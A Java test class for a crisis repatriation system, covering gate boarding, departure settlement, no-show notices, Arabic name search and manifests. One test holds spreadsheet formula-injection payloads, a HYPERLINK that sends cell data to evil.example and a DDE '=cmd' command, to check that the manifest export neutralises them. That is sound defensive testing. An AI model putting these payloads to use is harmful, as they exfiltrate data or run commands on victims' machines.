package crisis.core.repatriation;

import static crisis.core.repatriation.RepatriationFixture.byTraveller;
import static crisis.core.repatriation.RepatriationFixture.op;
import static crisis.core.testing.Samples.CRISIS_CELL;
import static crisis.core.testing.Samples.PARIS_OFFICER;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import crisis.core.common.ConflictException;
import crisis.core.crisis.CrisisStatus;
import crisis.core.registry.Registration;
import crisis.core.repatriation.EvacuationRequest.Source;
import crisis.core.repatriation.EvacuationRequest.State;
import crisis.core.repatriation.Gate.Operation;
import crisis.core.repatriation.Gate.Outcome;
import crisis.core.repatriation.Gate.Type;
import crisis.core.repatriation.remains.RemainsCases;
import java.time.Duration;
import java.time.Instant;
import java.time.LocalDate;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.UUID;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;

/**
 * What the outside checks found at the gate and around it: nobody left in a state no plan acts on once a leg leaves,
 * households that board together, documents recordable until boarding, operation ids that cannot be reused, and the
 * zone order, cancellation and no-show notices.
 */
@Tag("db")
class GateSettlementTest {
  private RepatriationFixture f;

  @BeforeEach
  void start() {
    f = new RepatriationFixture();
  }

  /** A household of three with the laissez-passers its two members without documents need, recorded. */
  private EvacuationRequest familyReadyToBoard(double lat, double lon) {
    EvacuationRequest q = f.request(f.family(lat, lon), Set.of(SpecialNeed.ELDERLY));
    for (Traveller t : q.travellers()) {
      if (!t.mayBoard()) {
        q = f.rep.requestChanges().issueLaissezPasser(PARIS_OFFICER, f.crisis.id(), q.id(), q.version(), t.id(),
            "LP-" + t.id().toString().substring(0, 6));
      }
    }
    return q;
  }

  @Test
  void departureSettlesEveryoneOnTheLegAndTheManifestListsWhoFlew() {
    EvacuationRequest aboard = f.request(f.alone(48.870, 2.350), Set.of(SpecialNeed.ELDERLY));
    EvacuationRequest checkedInOnly = f.request(f.alone(48.871, 2.351), Set.of(SpecialNeed.ELDERLY));
    EvacuationRequest absent = f.request(f.alone(48.872, 2.352), Set.of(SpecialNeed.ELDERLY));
    EvacuationRequest partly = familyReadyToBoard(48.873, 2.353);
    TransportLeg leg = f.bus(10, 6, f.eastGate);
    f.rep.planning().plan(CRISIS_CELL, f.crisis.id());
    TransportLeg later = f.bus(10, 12, f.eastGate);

    assertThat(f.gate(leg.id(), op(Type.CHECK_IN, f.code(aboard))).outcome()).isEqualTo(Outcome.DONE);
    assertThat(f.gate(leg.id(), op(Type.BOARD, f.code(aboard))).outcome()).isEqualTo(Outcome.DONE);
    f.gate(leg.id(), op(Type.CHECK_IN, f.code(checkedInOnly)));
    f.gate(leg.id(), op(Type.CHECK_IN, f.code(partly)));
    // Two of the family walk aboard; the third, checked in, never comes to the door.
    List<Traveller> family = partly.travellers();
    f.gate(leg.id(), byTraveller(Type.BOARD, family.get(0).id()));
    Gate.Answer second = f.gate(leg.id(), byTraveller(Type.BOARD, family.get(1).id()));
    assertThat(second.message()).contains("1 boarded", "1 of the household still to board");
    assertThat(f.read(partly).state()).isEqualTo(State.CHECKED_IN);

    f.clock.advance(Duration.ofHours(6));
    Gate.Answer departed = f.gate(leg.id(), op(Type.DEPART, null));
    assertThat(departed.outcome()).isEqualTo(Outcome.DONE);
    assertThat(departed.message()).contains("2 households aboard", "1 did not come",
        "1 checked in but not aboard", "1 partly aboard", "2 people left at the gate");

    assertThat(f.read(aboard).state()).isEqualTo(State.BOARDED);
    assertThat(f.read(absent).state()).isEqualTo(State.NO_SHOW);
    assertThat(f.read(absent).assignment()).isNull();
    // Back on the waitlist, and seated again at once on the later leg.
    assertThat(f.read(checkedInOnly).state()).isEqualTo(State.ASSIGNED);
    assertThat(f.read(checkedInOnly).assignment().legId()).isEqualTo(later.id());
    EvacuationRequest flew = f.read(partly);
    assertThat(flew.state()).isEqualTo(State.BOARDED);
    assertThat(flew.travellers()).extracting(Traveller::id).containsExactly(family.get(0).id(), family.get(1).id());
    EvacuationRequest left = f.rep.requests().list(CRISIS_CELL, f.crisis.id(), null).stream()
        .filter(q -> q.source() == Source.GATE).findFirst().orElseThrow();
    assertThat(left.travellers()).extracting(Traveller::id).containsExactly(family.get(2).id());
    assertThat(left.registrationId()).isEqualTo(partly.registrationId());
    assertThat(left.requestedAt()).isEqualTo(partly.requestedAt());
    assertThat(left.state()).isEqualTo(State.ASSIGNED);
    assertThat(left.assignment().legId()).isEqualTo(later.id());
    assertThat(departed.travellers()).containsExactlyInAnyOrder(absent.id(), checkedInOnly.id(), left.id());

    // Everyone not aboard was told (in Arabic, the sample's language): the no-show that its seats are gone.
    List<Map<String, Object>> notices = f.notices();
    assertThat(notices).filteredOn(m -> m.get("phone").equals(absent.phone()))
        .extracting(m -> (String) m.get("body")).anyMatch(b -> b.startsWith("لم تحضروا") && b.contains("B6"));
    assertThat(notices).filteredOn(m -> m.get("phone").equals(partly.phone()))
        .extracting(m -> (String) m.get("body")).anyMatch(b -> b.startsWith("لم يصعد 1 "));
    assertThat(notices).filteredOn(m -> m.get("phone").equals(checkedInOnly.phone()))
        .extracting(m -> (String) m.get("body")).anyMatch(b -> b.startsWith("لم يصعد 1 "));

    // The departed leg's manifest names who flew, and nobody else.
    List<String> lines = f.rep.manifests().csv(CRISIS_CELL, leg.id()).lines().toList();
    assertThat(lines).hasSize(1 + 3);
    assertThat(String.join("\n", lines)).doesNotContain(family.get(2).fullName() + ",");
    assertThat(lines.subList(1, 4)).allMatch(l -> l.endsWith(",BOARDED"));

    f.gate(leg.id(), op(Type.ARRIVE, null));
    assertThat(f.read(aboard).state()).isEqualTo(State.ARRIVED);
    assertThat(f.read(partly).state()).isEqualTo(State.ARRIVED);
    assertThat(f.read(partly).travellers()).hasSize(2);
  }

  @Test
  void aLegThatLeftBeforeDeparturesSettledListsOnlyWhoBoarded() {
    // A leg departed by an earlier version (no settlement): a household checked in but not aboard still holds a seat.
    EvacuationRequest q = f.request(f.alone(48.87, 2.35), Set.of());
    TransportLeg leg = f.bus(10, 6, f.eastGate);
    f.rep.planning().plan(CRISIS_CELL, f.crisis.id());
    f.gate(leg.id(), op(Type.CHECK_IN, f.code(q)));
    f.jdbi.useHandle(h -> h.execute("UPDATE transport_leg SET state = 'DEPARTED' WHERE id = ?", leg.id()));
    assertThat(f.rep.manifests().csv(CRISIS_CELL, leg.id()).lines().skip(1)).isEmpty();
  }

  @Test
  void aHouseholdBoardsTogetherAndItsLaissezPassersAreRecordedAtTheGate() {
    EvacuationRequest q = f.request(f.family(48.87, 2.35), Set.of());
    TransportLeg leg = f.bus(10, 6, f.eastGate);
    f.rep.planning().plan(CRISIS_CELL, f.crisis.id());
    String code = f.code(q);
    f.gate(leg.id(), op(Type.CHECK_IN, code));

    Gate.Answer refused = f.gate(leg.id(), op(Type.BOARD, code));
    assertThat(refused.outcome()).isEqualTo(Outcome.REFUSED);
    assertThat(refused.message()).contains("the household boards together",
        "Youssef El Amrani needs a laissez-passer", "Jean Dupont needs a laissez-passer");
    // By traveller too: the one with a document does not board without the others.
    Traveller mother = q.travellers().get(0);
    assertThat(f.gate(leg.id(), byTraveller(Type.BOARD, mother.id())).outcome()).isEqualTo(Outcome.REFUSED);
    assertThat(f.read(q).state()).isEqualTo(State.CHECKED_IN);

    // Checked in, the documents can still be recorded (they could not before: 409).
    EvacuationRequest current = f.read(q);
    for (Traveller t : current.travellers()) {
      if (!t.mayBoard()) {
        current = f.rep.requestChanges().issueLaissezPasser(PARIS_OFFICER, f.crisis.id(), q.id(), current.version(),
            t.id(), "LP-2026-" + t.fullName().length());
      }
    }
    Gate.Answer boarded = f.gate(leg.id(), op(Type.BOARD, code));
    assertThat(boarded.outcome()).isEqualTo(Outcome.DONE);
    assertThat(boarded.travellers()).hasSize(3);
    assertThat(f.read(q).state()).isEqualTo(State.BOARDED);
    EvacuationRequest aboard = f.read(q);
    assertThatThrownBy(() -> f.rep.requestChanges().issueLaissezPasser(PARIS_OFFICER, f.crisis.id(), q.id(),
        aboard.version(), mother.id(), "LP-9")).isInstanceOf(ConflictException.class);
  }

  @Test
  void anOperationIdUsedBeforeOnAnotherLegOrForAnotherTypeIsRefusedAndNothingLeaks() {
    EvacuationRequest q = f.request(f.alone(48.87, 2.35), Set.of());
    TransportLeg leg = f.bus(10, 6, f.eastGate);
    TransportLeg other = f.bus(10, 8, f.westGate);
    f.rep.planning().plan(CRISIS_CELL, f.crisis.id());
    Operation checkIn = op(Type.CHECK_IN, f.code(q));
    assertThat(f.gate(leg.id(), checkIn).travellers()).hasSize(1);

    Gate.Answer elsewhere = f.gate(other.id(), new Operation(checkIn.id(), Type.CLOSE, null, null, null));
    assertThat(elsewhere.outcome()).isEqualTo(Outcome.REFUSED);
    assertThat(elsewhere.message()).contains("already used for another operation");
    assertThat(elsewhere.travellers()).isEmpty();
    assertThat(elsewhere.replayed()).isFalse();
    Gate.Answer otherType = f.gate(leg.id(), new Operation(checkIn.id(), Type.DEPART, null, null, null));
    assertThat(otherType.outcome()).isEqualTo(Outcome.REFUSED);
    assertThat(f.rep.legs().get(CRISIS_CELL, leg.id()).state()).isEqualTo(TransportLeg.State.BOARDING);
    // The same operation sent again is still answered from what was done.
    assertThat(f.gate(leg.id(), checkIn).replayed()).isTrue();
  }

  @Test
  void aZoneOrderLeavesAloneWhoWithdrewAndTheDeceasedAndCountsWhoAlreadyAsked() {
    Registration stays = f.alone(48.86, 2.35);
    Registration deceased = f.alone(48.861, 2.351);
    f.alone(48.862, 2.352);
    Registration asked = f.alone(48.863, 2.353);
    f.request(asked, Set.of());
    EvacuationRequest withdrawn = f.request(stays, Set.of());
    f.jdbi.useTransaction(h -> EvacuationReplies.cancelFromReply(h, f.crisis.id(), List.of(stays.id()),
        stays.data().phone(), f.clock.instant()));
    assertThat(f.read(withdrawn).state()).isEqualTo(State.CANCELLED);
    f.rep.remains().open(PARIS_OFFICER, new RemainsCases.CaseInput(deceased.id(), f.crisis.id(), null, null,
        LocalDate.of(2026, 11, 30), "Paris", "FR", null, "Ahmed El Amrani", "+212522123456", "brother", "Fès"));

    EvacuationOrder.Ordered order = f.rep.evacuationOrder().orderEvacuation(CRISIS_CELL, f.crisis.id());
    assertThat(order.opened()).isEqualTo(1);
    assertThat(order.alreadyRequested()).isEqualTo(2);
    List<EvacuationRequest> all = f.rep.requests().list(CRISIS_CELL, f.crisis.id(), null);
    assertThat(all).filteredOn(q -> q.registrationId().equals(stays.id())).extracting(EvacuationRequest::state)
        .containsExactly(State.CANCELLED);
    assertThat(all).noneMatch(q -> q.registrationId().equals(deceased.id()));
  }

  @Test
  void aCancelledRequestReadsWithTheTravellersItHad() {
    EvacuationRequest q = f.request(f.family(48.87, 2.35), Set.of());
    EvacuationRequest cancelled = f.rep.requestChanges().cancel(PARIS_OFFICER, f.crisis.id(), q.id(), "duplicate");
    assertThat(cancelled.state()).isEqualTo(State.CANCELLED);
    assertThat(cancelled.travellers()).extracting(Traveller::id)
        .containsExactlyElementsOf(q.travellers().stream().map(Traveller::id).toList());
    // Its people are free to travel in another request.
    assertThat(f.request(f.registrations.get(PARIS_OFFICER, q.registrationId()), Set.of()).state())
        .isEqualTo(State.OPEN);
  }

  @Test
  void aNoShowIsToldItsSeatsAreGoneAndAskingAgainPutsItBackOnTheWaitlist() {
    EvacuationRequest absent = f.request(f.alone(48.87, 2.35), Set.of());
    TransportLeg leg = f.bus(10, 6, f.eastGate);
    f.rep.planning().plan(CRISIS_CELL, f.crisis.id());
    f.clock.advance(Duration.ofHours(5));
    assertThat(f.gate(leg.id(), op(Type.CLOSE, null)).travellers()).containsExactly(absent.id());
    assertThat(f.read(absent).state()).isEqualTo(State.NO_SHOW);
    assertThat(f.notices()).filteredOn(m -> m.get("phone").equals(absent.phone()))
        .extracting(m -> (String) m.get("body")).anyMatch(b -> b.startsWith("لم تحضروا"));

    UUID reopened = f.jdbi.inTransaction(h -> EvacuationReplies.openFromReply(h, f.crisis.id(),
        List.of(absent.registrationId()), absent.phone(), Instant.now()));
    assertThat(reopened).isEqualTo(absent.id());
    assertThat(f.read(absent).state()).isEqualTo(State.OPEN);
  }

  @Test
  void theGateFindsATravellerByTheirNameInArabicAsTypedOnAPhone() {
    EvacuationRequest q = f.request(f.family(48.87, 2.35), Set.of());
    f.request(f.alone(48.871, 2.351), Set.of());
    TransportLeg leg = f.bus(10, 6, f.eastGate);
    f.rep.planning().plan(CRISIS_CELL, f.crisis.id());
    UUID mother = q.travellers().get(0).id();
    // Registered as فاطمة العمراني: found with ta marbuta typed as ha, with vowel marks, by family name alone.
    for (String typed : List.of("فاطمه", "فَاطِمَة العمراني", "العمراني", "el-amrani fatima".substring(0, 9))) {
      assertThat(f.rep.manifests().passengers(PARIS_OFFICER, leg.id(), typed))
          .as(typed).extracting(Manifests.Passenger::travellerId).contains(mother);
    }
    assertThat(f.rep.manifests().passengers(PARIS_OFFICER, leg.id(), "فاطمه").get(0).nameArabic())
        .isEqualTo("فاطمة العمراني");
    assertThat(f.rep.manifests().passengers(PARIS_OFFICER, leg.id(), "يوسف")).isEmpty();
    assertThat(f.rep.manifests().passengers(PARIS_OFFICER, leg.id(), f.code(q))).hasSize(3);
  }

  @Test
  void aManifestOpenedInASpreadsheetRunsNoFormula() {
    // A companion's name is a name: a formula is refused, naming the field.
    assertThatThrownBy(() -> f.rep.requestOpening().open(PARIS_OFFICER, f.crisis.id(), new RequestOpening
        .RequestInput(f.alone(48.871, 2.351).id(), null, Set.of(), List.of(new TravellerInputs.TravellerInput(null,
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", null, null, "FR", null, null, null)), null)))
        .isInstanceOf(crisis.core.common.ValidationException.class).hasMessageContaining("companions[0].fullName");
    // Documents, carriers and references are what they are: written so that a spreadsheet reads them as text.
    EvacuationRequest q = f.rep.requestOpening().open(PARIS_OFFICER, f.crisis.id(), new RequestOpening.RequestInput(
        f.alone(48.87, 2.35).id(), null, Set.of(), List.of(new TravellerInputs.TravellerInput(null, "Jean Dupont",
            null, null, "FR", Traveller.DocumentType.PASSPORT, "@SUM(1+1)", null)), null));
    TransportLeg leg = f.rep.legs().create(CRISIS_CELL, f.crisis.id(), new TransportLegs.LegInput(
        TransportLeg.Kind.BUS, "=cmd|' /C calc'!A0", "+AT 9001", 10, 0, 0, f.clock.instant().plus(Duration.ofHours(6)),
        60, "Europe/Paris", "Tanger", List.of(new TransportLegs.PointInput(f.eastGate.id(), 0, null, null))));
    f.rep.planning().plan(CRISIS_CELL, f.crisis.id());
    List<String> rows = f.rep.manifests().csv(CRISIS_CELL, leg.id()).lines().skip(1).toList();
    assertThat(rows).hasSize(2).allSatisfy(r -> assertThat(r).startsWith("'+AT 9001,'=cmd|' /C calc'!A0,"));
    assertThat(rows.get(1)).contains(",'@SUM(1+1),");
    assertThat(q.travellers()).hasSize(2);
  }

  @Test
  void thePdfManifestDrawsNamesWrittenInArabic() throws Exception {
    f.rep.requestOpening().open(PARIS_OFFICER, f.crisis.id(), new RequestOpening.RequestInput(
        f.alone(48.87, 2.35).id(), null, Set.of(), List.of(new TravellerInputs.TravellerInput(null,
            "يوسف العمراني", null, null, "MA", null, null, null)), null));
    TransportLeg leg = f.bus(10, 6, f.eastGate);
    f.rep.planning().plan(CRISIS_CELL, f.crisis.id());
    byte[] pdf = f.rep.manifests().pdf(CRISIS_CELL, leg.id());
    String text;
    try (var doc = org.apache.pdfbox.Loader.loadPDF(pdf)) {
      text = java.text.Normalizer.normalize(new org.apache.pdfbox.text.PDFTextStripper().getText(doc),
          java.text.Normalizer.Form.NFKC);
    }
    // The joined forms drawn, read back as letters: the name is there (in the order it is drawn, or read).
    String name = "يوسف العمراني";
    String drawn = new StringBuilder(name).reverse().toString();
    assertThat(text.contains(name) || text.contains(drawn) || text.contains("العمراني يوسف"))
        .as("Arabic name in the PDF text: %s", text).isTrue();
    assertThat(text).contains("Fatima El Amrani");
  }

  @Test
  void noLegIsAddedToAClosedCrisis() {
    f.crises.close(CRISIS_CELL, f.crisis.id(), "floods over");
    assertThat(f.crises.get(CRISIS_CELL, f.crisis.id()).status()).isEqualTo(CrisisStatus.CLOSED);
    assertThatThrownBy(() -> f.bus(10, 6, f.eastGate)).isInstanceOf(ConflictException.class)
        .hasMessageContaining("CLOSED");
  }
}
